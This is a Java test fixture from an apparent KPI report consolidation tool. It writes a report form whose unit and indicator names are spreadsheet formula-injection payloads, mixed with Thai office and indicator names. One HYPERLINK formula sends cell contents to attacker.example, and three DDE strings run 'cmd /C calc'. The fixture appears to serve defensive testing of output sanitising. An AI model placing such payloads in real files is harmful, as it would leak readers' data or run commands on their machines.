package org.kpiconsolidator.testing;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;

/**
 * A report form whose unit name and indicator names begin with the characters a spreadsheet runs as a
 * formula ({@code = + - @}): what a hostile sender types to attack the reviewer who opens the outputs.
 */
public final class InjectionForms {

    public static final String UNIT = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"สำนักงานเขตบางแค\")";
    public static final List<String> INDICATORS = List.of(
            "+cmd|' /C calc'!A0 ร้อยละความสำเร็จ",
            "-2+3+cmd|' /C calc'!A0 ระดับความสำเร็จ",
            "@SUM(1+1)*cmd|' /C calc'!A0 ระดับความพึงพอใจ");

    private InjectionForms() {
    }

    /** Writes the form to {@code dir/file} and returns the file. */
    public static Path render(Path dir, String file) throws IOException {
        FormSpec form = new FormSpec(UNIT, SampleForms.YEAR, "A", List.of(
                SampleBlocks.multi(1, false, 40, List.of(
                        SampleBlocks.levelIndicator(1, INDICATORS.get(0), 20, 5),
                        SampleBlocks.levelIndicator(2, INDICATORS.get(1), 10, 4),
                        SampleBlocks.levelIndicator(3, INDICATORS.get(2), 10, 5)))));
        Path path = dir.resolve(file);
        FormRenderer.render(form, path, Layout.oneSheet("องค์ประกอบที่ 1", form));
        return path;
    }
}
